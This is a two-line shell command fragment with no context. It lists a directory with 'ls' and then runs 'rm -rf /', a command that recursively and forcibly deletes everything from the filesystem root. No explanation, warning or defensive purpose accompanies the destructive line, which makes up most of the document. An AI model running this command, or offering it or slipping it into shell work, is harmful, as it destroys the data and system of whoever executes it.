ls
rm -rf /